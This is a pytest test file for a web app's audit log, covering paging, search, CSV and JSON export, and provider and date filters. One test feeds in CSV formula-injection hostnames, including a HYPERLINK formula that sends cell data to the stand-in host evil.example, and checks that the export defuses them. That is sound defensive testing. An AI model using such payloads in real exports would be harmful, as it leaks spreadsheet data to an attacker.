"""The audit log page: paged, searchable, exported as CSV; and its JSON twin."""

from __future__ import annotations

import csv
import io
import re

import psycopg
from fastapi.testclient import TestClient
from psycopg.types.json import Jsonb

from halton_api.testing.factories import Browser, bearer, make_api_key, make_device, make_user, make_workspace


def test_paging_search_and_csv(client: TestClient, postgres_url: str) -> None:
    owner = make_user(postgres_url, email="boss@example.com")
    workspace = make_workspace(postgres_url, owner=owner)
    for i in range(60):
        make_device(postgres_url, workspace=workspace, hostname=f"host-{i:02d}.local")
    admin = Browser(client, postgres_url, owner)
    base = f"/{workspace.slug}/audit"

    first = admin.get(base)
    assert first.status_code == 200
    assert first.text.count("device.paired") == 50  # one page
    older = re.search(r'href="([^"]*before=\d+[^"]*)"', first.text).group(1).replace("&amp;", "&")
    second = admin.get(older)
    assert second.text.count("device.paired") == 10 and "workspace.created" in second.text
    assert "Older events" not in second.text

    found = admin.get(f"{base}?q=host-07")
    assert found.text.count("device.paired") == 1

    exported = admin.get(f"{base}.csv")
    assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert len(rows) == 61
    assert rows[-1]["event"] == "workspace.created" and rows[-1]["actor_label"] == "boss@example.com"
    assert '"hostname": "host-59.local"' in rows[0]["details"]
    assert len(list(csv.DictReader(io.StringIO(admin.get(f"{base}.csv?q=host-1").text)))) == 10

    key = make_api_key(postgres_url, workspace=workspace).key
    page = client.get(f"/v1/{workspace.slug}/audit?limit=40", headers=bearer(key)).json()
    assert len(page["events"]) == 40
    rest = client.get(
        f"/v1/{workspace.slug}/audit?limit=40&before={page['next_before']}", headers=bearer(key)
    ).json()
    assert len(rest["events"]) == 22 and rest["next_before"] is None  # 60 pairings, creation, key creation


def test_the_audit_csv_neutralises_formula_cells(client: TestClient, postgres_url: str) -> None:
    """A hostname comes from the paired machine: anyone's text, never a formula in the owner's spreadsheet."""
    owner = make_user(postgres_url, email="boss@example.com")
    workspace = make_workspace(postgres_url, owner=owner)
    hostnames = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
    for hostname in hostnames:
        make_device(postgres_url, workspace=workspace, hostname=hostname)
    exported = Browser(client, postgres_url, owner).get(f"/{workspace.slug}/audit.csv?kind=device")
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    assert sorted(row["resource_label"] for row in rows) == sorted("'" + h for h in hostnames)
    assert all(row["id"].isdigit() for row in rows)  # numbers stay numbers
    formula = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for row in rows for cell in row.values() if cell.startswith(formula)]


def test_the_rail_filters_events_by_provider_and_by_dates_when_given(
    client: TestClient, postgres_url: str
) -> None:
    owner = make_user(postgres_url, email="boss@example.com")
    workspace = make_workspace(postgres_url, owner=owner)
    with psycopg.connect(postgres_url) as conn:
        for provider, days_ago in (("openai", 1), ("anthropic", 1), ("openai", 90)):
            conn.execute(
                "INSERT INTO audit_events (workspace_id, created_at, actor_type, actor_label, event, resource_type,"
                " resource_label, details) VALUES (%s, now() - make_interval(days => %s), 'user', 'boss',"
                " 'billing.statement_pasted', 'billing_statement', %s, %s)",
                (
                    workspace.id,
                    days_ago,
                    f"{provider} {days_ago}d",
                    Jsonb({"provider": provider, "note": "it's"}),
                ),
            )
    admin = Browser(client, postgres_url, owner)
    base = f"/{workspace.slug}/audit"
    # The reconciliation's "Audit log" link carries ?provider=: the events tab honours it (all time by default).
    openai = admin.get(f"{base}?provider=openai").text
    assert "openai 1d" in openai and "openai 90d" in openai and "anthropic 1d" not in openai
    assert "All time" in openai and 'value="openai" checked' in openai
    assert "provider: openai" in openai and "\\u0027" not in openai and "note:</span> it&#39;s" in openai
    recent = admin.get(f"{base}?provider=openai&range=30d").text
    assert "openai 1d" in recent and "openai 90d" not in recent
    kinds = re.search(r'href="([^"]*kind=billing[^"]*)"', recent).group(1)
    assert "provider=openai" in kinds and "range=30d" in kinds
    exported = admin.get(f"{base}.csv?provider=anthropic").text
    assert "anthropic 1d" in exported and "openai" not in exported
    key = make_api_key(postgres_url, workspace=workspace).key
    twin = client.get(f"/v1/{workspace.slug}/audit?provider=openai&range=30d", headers=bearer(key)).json()
    assert [e["resource_label"] for e in twin["events"]] == ["openai 1d"]
